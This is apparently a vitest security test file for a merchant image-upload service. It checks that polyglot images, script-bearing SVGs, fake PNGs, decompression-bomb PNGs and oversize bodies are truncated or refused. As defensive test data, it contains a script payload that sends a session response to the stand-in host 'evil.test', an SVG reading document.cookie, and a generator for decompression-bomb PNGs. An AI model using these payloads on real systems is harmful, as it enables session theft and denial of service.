import { createHash } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import { count, eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mediaFiles, sandboxMedia } from "@/db/schema";
import { DEMO_MERCHANT_ID } from "@/db/seed";
import { AppError } from "@/lib/errors";
import { readPhoto } from "@/lib/media/read-photo";
import { uploadTestbed, type UploadTestbed } from "../helpers/uploads";
import { testEngines } from "../helpers/db";
import { useTestDataKey } from "../helpers/wechat-sandbox";

useTestDataKey();

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, "latin1");
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, "latin1"), data])) >>> 0, 0);
  return Buffer.concat([head, data, crc]);
}

/** A PNG of a few hundred bytes whose header declares width × height 8-bit grey pixels (a decompression bomb). */
function bombPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 0; // greyscale
  // A few rows of zeros: a decoder that trusts the header allocates everything before it finds out.
  const rows = deflateSync(Buffer.alloc((width + 1) * 4));
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk("IHDR", ihdr), chunk("IDAT", rows), chunk("IEND", Buffer.alloc(0))]);
}

// A ZIP local file header, an HTML page with a script: what a polyglot hides after a real image.
const payload = Buffer.concat([
  Buffer.from("PK\x03\x04\x14\x00\x00\x00\x08\x00", "latin1"),
  Buffer.from('<html><body><script>fetch("/api/session").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.test",t))</script></body></html>'),
]);

describe.each(testEngines)("upload attacks on %s", (engine) => {
  let bed: UploadTestbed;
  beforeAll(async () => {
    bed = await uploadTestbed(engine);
  });
  afterAll(async () => bed?.close());

  const upload = (bytes: Buffer) => bed.upload(bytes);
  const stored = async () => (await bed.t.db.select({ n: count() }).from(mediaFiles))[0]!.n;
  /** Uploads, expects a refusal, and checks that nothing was stored. */
  async function refused(bytes: Buffer) {
    const before = await stored();
    const error = await upload(bytes).then(() => null, (e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect(await stored()).toBe(before);
    return error as AppError;
  }

  it.each([
    ["JPEG", () => sharp({ create: { width: 800, height: 500, channels: 3, background: "#a52" } }).jpeg().toBuffer(), "image/jpeg"],
    ["PNG", () => sharp({ create: { width: 800, height: 500, channels: 3, background: "#25a" } }).png().toBuffer(), "image/png"],
  ] as const)("a %s polyglot (image + ZIP + HTML script) is accepted with the appended payload cut off", async (_name, make, mime) => {
    const image = await make();
    const polyglot = Buffer.concat([image, payload]);
    // The attack works on a naive check: the bytes start as an image and sharp decodes them.
    expect((await sharp(polyglot).metadata()).format).toBeTruthy();
    const before = await stored();
    const result = await upload(polyglot);
    expect(await stored()).toBe(before + 1);
    expect(result).toMatchObject({ mime_type: mime, byte_size: image.length });
    const kept = await readPhoto(bed.t.db, { mediaId: result.media_id, merchantId: DEMO_MERCHANT_ID });
    expect(kept.bytes.equals(image)).toBe(true);
    expect(kept.bytes.includes(Buffer.from("<script>"))).toBe(false);
    expect(kept.bytes.includes(Buffer.from("PK\x03\x04", "latin1"))).toBe(false);
    // WeChat received the clean image too.
    const [sent] = await bed.t.db.select().from(sandboxMedia).where(eq(sandboxMedia.mediaId, result.media_id));
    expect(sent!.sha256).toBe(createHash("sha256").update(image).digest("hex"));
  });

  it("keeps an EXIF thumbnail's own end marker from cutting the JPEG short", async () => {
    const thumb = await sharp({ create: { width: 16, height: 16, channels: 3, background: "#000" } }).jpeg().toBuffer();
    const main = await sharp({ create: { width: 800, height: 500, channels: 3, background: "#5a2" } }).jpeg().toBuffer();
    // An APP1 segment holding a whole JPEG (with its FFD9) before the main image's scan.
    const app1 = Buffer.alloc(4);
    app1.writeUInt16BE(0xffe1, 0);
    app1.writeUInt16BE(thumb.length + 2, 2);
    const withThumb = Buffer.concat([main.subarray(0, 2), app1, thumb, main.subarray(2)]);
    const result = await upload(withThumb);
    // The whole picture is kept; only the metadata segment (thumbnail and all) is dropped.
    expect(result.byte_size).toBe(main.length);
    expect((await readPhoto(bed.t.db, { mediaId: result.media_id, merchantId: DEMO_MERCHANT_ID })).bytes.equals(main)).toBe(true);
  });

  it("refuses an SVG carrying a script, by its bytes", async () => {
    const svg = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>alert(document.cookie)</script></svg>');
    const error = await refused(svg);
    expect(error).toMatchObject({ code: "unsupported_media_type", status: 415, fields: { file: "media.errors.format" } });
    expect(error.message).toMatch(/JPG, PNG and BMP/);
  });

  it("refuses a PNG signature followed by something else", async () => {
    const fake = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from("<html><script>alert(1)</script></html>".repeat(20))]);
    const error = await refused(fake);
    expect(error).toMatchObject({ code: "unsupported_media_type", fields: { file: "media.errors.damaged" } });
    expect(error.message).toMatch(/damaged or incomplete/);
  });

  it.each([
    [20_000, 20_000],
    // Under sharp's own default limit (268 M pixels), which alone would let this one be decoded.
    [16_000, 16_000],
  ])("refuses a tiny PNG declaring %i × %i pixels quickly, without decoding it", async (width, height) => {
    const bomb = bombPng(width, height);
    expect(bomb.length).toBeLessThan(100 * 1024);
    const rss = process.memoryUsage().rss;
    const started = performance.now();
    const error = await refused(bomb);
    const ms = performance.now() - started;
    expect(error).toMatchObject({ code: "payload_too_large", fields: { file: "media.errors.too_many_pixels" } });
    expect(error.message).toMatch(/too many pixels/);
    expect(ms).toBeLessThan(1000);
    expect(process.memoryUsage().rss - rss).toBeLessThan(200 * 1024 * 1024);
  });

  it("refuses a body over the 20 MB limit before looking at it", async () => {
    const error = await refused(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(20 * 1024 * 1024 + 1)]));
    expect(error).toMatchObject({ code: "payload_too_large", status: 413, fields: { file: "media.errors.too_large" } });
    expect(error.message).toMatch(/20 MB/);
  });
});
